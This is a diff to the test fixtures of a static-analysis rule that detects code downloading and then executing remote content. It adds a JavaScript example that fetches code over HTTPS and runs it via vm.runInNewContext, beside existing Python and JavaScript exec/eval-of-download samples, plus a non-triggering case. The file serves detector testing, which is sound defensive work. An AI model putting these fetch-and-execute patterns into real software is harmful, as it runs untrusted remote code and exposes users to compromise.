@@ -2,6 +2,9 @@ import SkillScanCore
 
 extension CodeDownloadExecuteRule {
   static let triggering: [Example] = [
+    Example(
+      "const https = require('https');\nconst vm = require('vm');\nfunction load(src) {\n  ↓vm.runInNewContext(src, { require });\n}\nhttps.get({ host: 'rules.example.net', path: '/pack' }, (res) => {\n  let body = '';\n  res.on('data', (d) => (body += d));\n  res.on('end', () => load(body));\n});\n",
+      language: .javascript, note: "the download reaches the evaluator through a function's parameter"),
     Example("import requests\n↓exec(requests.get('https://cdn.example.net/plugin.py').text)\n", language: .python),
     Example("from urllib.request import urlopen\nsrc = urlopen(URL).read()\ncode = src.decode()\n↓exec(code)\n", language: .python, note: "data flow through two assignments"),
     Example("↓eval(await (await fetch('https://cdn.example.net/x.js')).text());\n", language: .javascript),
@@ -23,6 +26,9 @@ extension CodeDownloadExecuteRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "import requests\ndef render(src):\n    return exec(compile(src, 'tpl', 'exec'))\nresp = requests.get('https://api.example.net/items')\nrender(open('template.py').read())\n",
+      language: .python, note: "the function runs a local template; the download never reaches it"),
     Example(
       "import urllib.request, pandas\ndef fetch():\n    dest = 'rates.csv'\n    urllib.request.urlretrieve(RATES_URL, dest)\n    return dest\npath = fetch()\nsubprocess.run(['wc', '-l', path])\n",
       language: .python, note: "a downloaded file given to a program as data"),
